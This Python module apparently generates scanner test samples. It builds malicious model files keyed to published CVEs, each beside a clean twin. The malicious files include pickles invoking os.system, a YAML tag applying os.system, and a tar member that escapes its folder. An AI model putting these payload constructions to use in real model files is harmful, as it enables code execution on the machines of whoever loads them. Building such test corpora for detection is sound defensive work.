"""f-published: files of published holes that no other class holds, each beside a twin."""
from . import deflate, tarwriter, torchfmt
from .assemble import *
from .numpyfmt import doubles, joblib_array
from .sample import Shelf
from .tarwriter import END, header, member

shelf = Shelf("f-published", loader="none")
benign = Shelf("benign", loader="none")
RUN = call(glob("os", "system"), binunicode(COMMAND))
EVIL = PROTO2 + RUN + STOP
PLAIN = PROTO2 + dic(binunicode("the"), integer(1), binunicode("a"), integer(2)) + STOP


def pair(technique, why, bad, good, extension, **more):
    """A file that is found and a file of the same kind that is clean."""
    shelf.add(technique, "found", bad, why, extension=extension, executes=False, **more)
    benign.add(technique, "twin", good, f"the ordinary twin: {why}", expected="benign",
               extension=extension)


# Files beside a model that its library opens with pickle, whatever they are called.
pair("side-rag-index", "RagRetriever reads its index, CVE-2023-6730", EVIL, PLAIN, "dpr")
pair("side-vocabulary", "TransfoXLTokenizer reads its vocabulary, CVE-2023-7018", EVIL, PLAIN,
     "bin")
pair("side-extra-data", "a repository checkpoint's extra data, CVE-2024-3568", EVIL, PLAIN,
     "pickle")
pair("side-converted", "a checkpoint that a conversion opens, CVE-2024-11392, 11393, 11394",
     torchfmt.legacy(body=EVIL), torchfmt.legacy(), "pth")

# A pickle under the name of something else: scanners that go by names looked elsewhere.
pair("name-of-torch", "a bare pickle called .pt, CVE-2025-10155", EVIL, PLAIN, "pt")

HEAD = PROTO4 + EMPTY_DICT + MARK + binunicode("coef")
pair("joblib-estimator", "joblib.load runs what is pickled beside its arrays, CVE-2020-13092",
     HEAD + RUN + SETITEMS + STOP,
     HEAD + joblib_array((8,), "f", 8, doubles(*range(8)), len(HEAD)) + SETITEMS + STOP, "joblib")


# The tar of torch before 0.1.10: weights_only did not reach the pickles in it.
def legacy_tar(storages):
    return b"".join((member(b"storages", storages), member(b"tensors", torchfmt.number(0)),
                     member(b"pickle", PROTO2 + EMPTY_DICT + STOP))) + END


pair("torch-tar", "weights_only did not hold for the old tar, CVE-2025-32434",
     legacy_tar(PROTO2 + RUN + POP + integer(0) + STOP), legacy_tar(torchfmt.number(0)), "pth")
REMOTE = "torch.distributed.nn.api.remote_module"
pair("torch-remote-module", "unpickling a RemoteModule runs the module it names, CVE-2024-48063",
     torchfmt.checkpoint(PROTO2 + call(glob(REMOTE, "_recursive_script_module_receiver"),
                                       binunicode("sample")) + STOP),
     torchfmt.checkpoint(PROTO2 + torchfmt.state_dict() + STOP), "pt")

# onnx.hub unpacked whatever the archive said.
pair("onnx-hub-tar", "a member that leaves the folder, CVE-2024-5187",
     deflate.gzip(member(b"../../escape.txt", b"sample\n") + END),
     deflate.gzip(header(b"model/", kind=b"5", mode=b"0000755")
                  + member(b"model/readme.txt", b"sample\n") + END), "tar.gz")

# Keras took architectures as YAML, and loaded them with yaml.unsafe_load.
LAYER = """class_name: Sequential
config:
  name: sample
  layers:
  - class_name: Dense
    config: {units: 4, activation: relu}
keras_version: 2.5.0
backend: tensorflow
"""
pair("keras-yaml", "model_from_yaml runs a tag, CVE-2021-37678",
     (LAYER + f"extra: !!python/object/apply:os.system ['{COMMAND}']\n").encode(),
     LAYER.encode(), "yaml")
pair("keras-yaml-lambda", "and a Lambda layer's code, CVE-2021-37678",
     LAYER.replace("class_name: Dense\n    config: {units: 4, activation: relu}",
                   "class_name: Lambda\n    config: {function: [4wEAAAA=, null, null], "
                   "function_type: lambda}").encode(),
     LAYER.replace("Dense", "Dropout").replace("units: 4, activation: relu", "rate: 0.5").encode(),
     "yaml")
